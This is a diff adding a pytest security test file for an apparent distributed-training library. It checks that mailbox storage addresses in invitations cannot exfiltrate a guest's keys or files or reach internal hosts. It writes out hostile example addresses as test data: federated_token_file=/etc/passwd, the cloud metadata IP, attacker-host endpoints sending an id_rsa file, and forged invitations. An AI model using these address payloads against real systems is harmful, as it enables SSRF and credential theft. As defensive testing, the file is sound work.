@@ -1,0 +1,219 @@
+"""What an address of a mailbox may say, and what an invitation cannot make a guest's machine do."""
+
+import os
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+
+import colab_swarm as cs
+from colab_swarm.errors import BucketError, InviteError, JoinError
+from colab_swarm.invite import Invite, SignedMailbox
+from colab_swarm.mailbox import address as module
+from colab_swarm.mailbox.address import checked_address, confirmed_address
+from colab_swarm.mailbox.bucket import Bucket
+from colab_swarm.net.identity import Identity
+
+R2 = "s3://bucket/folder?endpoint=https://account.r2.cloudflarestorage.com&region=auto"
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "s3://bucket",
+        "s3://bucket/a/b?region=eu-west-1",
+        R2,
+        "gs://bucket/x",
+        "az://box",
+        "file:///mnt/a b",
+        "memory://x",
+    ],
+)
+def test_an_address_with_known_options_is_returned(address: str) -> None:
+    assert checked_address(address) == address
+
+
+@pytest.mark.parametrize(
+    ("address", "problem"),
+    [
+        ("s3://bucket?access_key_id=AKIA", "no option 'access_key_id'.*never in an address"),
+        ("az://box?federated_token_file=/etc/passwd", "no option 'federated_token_file'"),
+        ("az://box?msi_endpoint=http://127.0.0.1/", "no option 'msi_endpoint'"),
+        ("s3://bucket?web_identity_token_file=/x", "no option"),
+        ("gs://bucket?application_credentials=/x", "no option"),
+        ("s3://bucket?ENDPOINT=https://a.example", "no option 'ENDPOINT'"),
+        ("s3://bucket?region=a&region=b", "given twice"),
+        ("s3://AKIA:secret@bucket/folder", "no keys in its address"),
+        ("s3://bucket/folder#part", "no '#'"),
+        ("s3://bucket?region=x@evil.example/", "a name such as eu-west-1"),
+        ("s3://bucket?endpoint=https://key:secret@host.example", "is the URL of a store"),
+        ("s3://bucket?endpoint=file:///etc", "is the URL of a store"),
+        ("s3://bucket?endpoint=", "is the URL of a store"),
+        ("s3://bu cket/x", "no name of a bucket"),
+        ("s3://", "no name of a bucket"),
+        ("s3://bucket/\nx", "characters that no store allows"),
+        ("file:///mnt/x?endpoint=https://a.example", "has no options"),
+    ],
+)
+def test_keys_and_unknown_options_are_refused_before_anything_is_opened(address: str, problem: str) -> None:
+    for call in (checked_address, lambda text: Bucket(text, "run/model")):
+        with pytest.raises(ValueError, match=problem) as caught:
+            call(address)
+        assert "secret" not in str(caught.value).replace("as secrets", "").replace("are secrets", "")
+
+
+@pytest.mark.parametrize(
+    ("address", "reason"),
+    [
+        ("file:///mnt/shared", "a folder of this machine"),
+        ("s3://bucket?endpoint=http://storage.example.org", "without encryption"),
+        *(
+            (f"s3://bucket?endpoint=https://{host}", "own network")
+            for host in (
+                "127.0.0.1:9000",
+                "[::1]",
+                "[::ffff:10.0.0.1]",
+                "169.254.169.254",
+                "localhost",
+                "minio",
+                "nas.local",
+                "vault.internal",
+                "LOCALHOST.",
+                "2130706433",
+                "inward.example.org",
+            )
+        ),
+    ],
+)
+def test_a_place_of_the_guests_own_must_be_confirmed(
+    address: str, reason: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(module.socket, "getaddrinfo", lambda host, _: [(0, 0, 0, "", ("192.168.1.9", 0))])
+    with pytest.raises(JoinError, match=reason) as caught:
+        confirmed_address(address, "")
+    assert f"mailbox={address!r}" in str(caught.value)
+    assert confirmed_address(address, address) == address
+
+
+@pytest.mark.parametrize("address", ["s3://bucket/folder", R2, "gs://bucket", "az://box", "memory://x"])
+def test_a_public_store_needs_no_confirmation(address: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(module.socket, "getaddrinfo", lambda host, _: [(0, 0, 0, "", ("104.18.1.1", 0))])
+    assert confirmed_address(address, "") == address
+
+
+def test_a_host_that_no_dns_knows_is_not_asked_again(monkeypatch: pytest.MonkeyPatch) -> None:
+    def unknown(host: str, _: object) -> None:
+        raise OSError("no such name")
+
+    monkeypatch.setattr(module.socket, "getaddrinfo", unknown)
+    assert confirmed_address(R2, "") == R2
+
+
+def test_a_guest_names_its_own_path_of_a_folder_but_no_other_store() -> None:
+    assert confirmed_address("file:///content/drive/theirs", "file:///mnt/mine") == "file:///mnt/mine"
+    with pytest.raises(ValueError, match="the invitation's rounds are in s3://bucket"):
+        confirmed_address("s3://bucket", "s3://other")
+    with pytest.raises(ValueError, match="rounds are in s3://bucket"):
+        confirmed_address("s3://bucket", "file:///mnt/mine")
+
+
+class Collector(BaseHTTPRequestHandler):
+    """Keeps all that a machine sends to it."""
+
+    received: list[bytes]
+
+    def do_GET(self) -> None:
+        length = int(self.headers.get("Content-Length") or 0)
+        self.received.append(f"{self.path} {self.headers}".encode() + self.rfile.read(length))
+        self.send_response(403)
+        self.send_header("Content-Length", "0")
+        self.end_headers()
+
+    do_POST = do_PUT = do_HEAD = do_DELETE = do_GET
+
+    def log_message(self, *_: object) -> None: ...
+
+
+@pytest.fixture
+def attacker() -> Iterator[tuple[str, list[bytes]]]:
+    received: list[bytes] = []
+    handler = type("Handler", (Collector,), {"received": received})
+    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
+        threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}", received
+        server.shutdown()
+
+
+def addresses_of(attacker: str, secret: Path) -> list[str]:
+    """Addresses that made a guest's machine send a file, keys or a request to a host of the attacker's choice."""
+    return [
+        f"az://c/f?account_name=a&client_id=c&tenant_id=t&federated_token_file={secret}&authority_host={attacker}",
+        f"az://c/f?account_name=a&msi_endpoint={attacker}/msi&endpoint={attacker}",
+        f"s3://b/f?region=x&web_identity_token_file={secret}&role_arn=r&endpoint={attacker}",
+        f"s3://b/f?region=x&metadata_endpoint={attacker}&endpoint={attacker}",
+        f"s3://b/f?region=x&endpoint={attacker}",
+        f"gs://b/f?base_url={attacker}",
+        f"gs://b/f?application_credentials={secret}",
+        "file:///etc",
+    ]
+
+
+def test_no_invitation_sends_a_file_or_keys_of_the_guest_away(
+    attacker: tuple[str, list[bytes]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The run's creator itself signs these: a guest is safe from it too."""
+    url, received = attacker
+    secret = tmp_path / "id_rsa"
+    secret.write_text("a private key")
+    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
+        monkeypatch.setenv(name, "a key of the guest")
+    with cs.create("honest", mailbox=f"memory://{tmp_path}") as alice:
+        invitation = Invite.parse(str(alice.invite()))
+        access = alice.network.access  # type: ignore[union-attr]
+        for address in addresses_of(url, secret):
+            signed = signed_by(alice, address)
+            forged = invitation.with_mailbox(address, access.admission.authority, signed)  # type: ignore[union-attr]
+            with pytest.raises((ValueError, JoinError)):
+                cs.join(str(forged), peer_name="guest")
+    assert received == []
+
+
+def signed_by(swarm: cs.Swarm, address: str) -> bytes:
+    return SignedMailbox(swarm.run_id, address).signed(swarm.services.peers.sign).signature
+
+
+@pytest.mark.parametrize("access", ["invite", "open"])
+def test_a_member_cannot_pass_an_invitation_on_with_another_mailbox(access: str, tmp_path: Path) -> None:
+    with cs.create("mine", mailbox=f"memory://{tmp_path}", access=access) as alice:  # type: ignore[arg-type]
+        invitation = Invite.parse(str(alice.invite()))
+        for changed in (
+            invitation.replaced(mailbox="s3://mallorys-bucket"),
+            invitation.replaced(mailbox="s3://mallorys-bucket", mailbox_signature=b""),
+            mallorys(invitation),
+        ):
+            with pytest.raises(InviteError, match="tampered with"):
+                cs.join(str(changed), peer_name="guest")
+        with (
+            cs.join(str(alice.invite()), peer_name="bob") as bob,
+            cs.join(str(bob.invite()), peer_name="carol") as carol,
+        ):
+            assert carol.services.mailbox == alice.services.mailbox and carol.run_id == alice.run_id
+
+
+def mallorys(invitation: Invite) -> Invite:
+    """The invitation with a mailbox that another key has signed."""
+    mallory = Identity()
+    signed = SignedMailbox(invitation.run_id, "s3://mallorys-bucket").signed(mallory.sign)
+    return invitation.with_mailbox("s3://mallorys-bucket", mallory.public_key, signed.signature)
+
+
+def test_no_key_is_in_the_repr_or_an_error_of_a_bucket(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIA-not-shown")
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "not-shown")
+    assert "not-shown" not in repr(Bucket("s3://bucket?region=eu-west-1", "run/model"))
+    with pytest.raises(BucketError, match="cannot be opened") as caught:
+        Bucket("az://container", "run/model")
+    assert "not-shown" not in str(caught.value)
+    assert os.environ["AWS_SECRET_ACCESS_KEY"] == "not-shown"
